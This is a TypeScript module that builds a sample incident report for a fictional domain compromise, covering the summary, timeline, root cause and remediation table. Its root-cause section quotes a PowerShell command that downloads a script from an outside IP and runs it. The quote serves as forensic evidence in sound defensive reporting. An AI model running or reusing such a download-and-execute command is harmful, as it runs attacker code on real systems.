import type { FindingId, SectionId } from '#shared/model/ids.ts';
import type { ReportNode, ReportSection } from '#shared/model/report.ts';
import { citationNode, liveNode } from '#shared/report/document-parts.ts';
import { eventAt } from './harbour-board.ts';

/** The report of the made-up case, section by section. */

export const paragraph = (...parts: (string | ReportNode)[]): ReportNode => ({
  type: 'paragraph',
  content: parts.map((part) => (typeof part === 'string' ? { type: 'text', text: part } : part)),
});
export const document = (...content: ReportNode[]): ReportNode => ({ type: 'doc', content });
const bold = (value: string): ReportNode => ({
  type: 'text',
  text: value,
  marks: [{ type: 'bold' }],
});
const cite = (iso: string): ReportNode => citationNode({ kind: 'event', event: eventAt(iso).id });
const citeFinding = (id: string): ReportNode =>
  citationNode({ kind: 'finding', finding: id as FindingId });
const cell = (type: 'tableHeader' | 'tableCell', value: string): ReportNode => ({
  type,
  content: [paragraph(value)],
});
const rowOf = (type: 'tableHeader' | 'tableCell', ...values: string[]): ReportNode => ({
  type: 'tableRow',
  content: values.map((value) => cell(type, value)),
});
const item = (value: string): ReportNode => ({ type: 'listItem', content: [paragraph(value)] });

const SECTIONS: readonly (readonly [
  title: string,
  level: 1 | 2,
  appendix: boolean,
  content: ReportNode,
])[] = [
  [
    'Summary',
    1,
    false,
    document(
      paragraph(
        bold(
          'On 12 May 2026 an intruder took control of the Lindholm domain and removed at least 2.5 GB of contracts.',
        ),
        ' Entry was a macro document opened on a workstation ',
        cite('2026-05-12T09:12:04.113Z'),
        '; a stolen administrator account was used to create a domain administrator of the intruder’s own ',
        cite('2026-05-12T15:21:10Z'),
        ' (',
        citeFinding('finding-domain'),
        ').',
      ),
      paragraph(
        'The intrusion was detected by chance, when an antivirus signature arrived at 05:31 UTC on 13 May ',
        cite('2026-05-13T05:31:12Z'),
        ', and contained 24 minutes later. No sign of the intruder was found after that.',
      ),
    ),
  ],
  [
    'Impact',
    1,
    false,
    document({
      type: 'guidance',
      content: [{ type: 'text', text: 'Who and what was affected, and since when.' }],
    }),
  ],
  ['In figures', 2, false, document(liveNode({ kind: 'metrics' }))],
  [
    'Timeline',
    1,
    false,
    document(
      paragraph('All times are UTC.'),
      liveNode({ kind: 'board-figure' }),
      liveNode({ kind: 'board-table' }),
    ),
  ],
  [
    'Root cause',
    1,
    false,
    document(
      paragraph('Three conditions had to meet:'),
      {
        type: 'orderedList',
        attrs: { start: 1 },
        content: [
          item('Macros in documents from outside were allowed to run.'),
          item('The account svc_backup was a local administrator everywhere.'),
          item('Administrators logged on to workstations with domain-wide rights.'),
        ],
      },
      { type: 'heading', attrs: { level: 3 }, content: [{ type: 'text', text: 'The command' }] },
      {
        type: 'codeBlock',
        content: [
          {
            type: 'text',
            text: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
          },
        ],
      },
      {
        type: 'blockquote',
        content: [paragraph('“The invoice looked like any other.” (Anna Berg, 13 May)')],
      },
    ),
  ],
  ['Techniques', 1, false, document(liveNode({ kind: 'techniques' }))],
  [
    'Response',
    1,
    false,
    document(
      paragraph('What was done, in order:'),
      liveNode({ kind: 'events', query: 'helpdesk2', limit: 20 }),
    ),
  ],
  [
    'Lessons and actions',
    1,
    false,
    document({
      type: 'table',
      content: [
        rowOf('tableHeader', 'Action', 'Owner', 'Due'),
        rowOf(
          'tableCell',
          'Block macros from the internet by policy',
          'IT operations',
          '30 May 2026',
        ),
        rowOf(
          'tableCell',
          'Separate administration accounts and workstations',
          'Security',
          '30 June 2026',
        ),
      ],
    }),
  ],
  ['Findings', 1, true, document(liveNode({ kind: 'findings' }))],
  ['Evidence', 1, true, document(liveNode({ kind: 'evidence' }))],
  ['Chain of custody', 1, true, document(liveNode({ kind: 'custody' }))],
  ['Coverage: what was read and what was not', 1, true, document(liveNode({ kind: 'coverage' }))],
];

export const sections: readonly ReportSection[] = SECTIONS.map(
  ([title, level, appendix, content], n) => ({
    id: `section-${n}` as SectionId,
    rank: `a${String.fromCharCode(65 + n)}`,
    level,
    title,
    appendix,
    content,
  }),
);
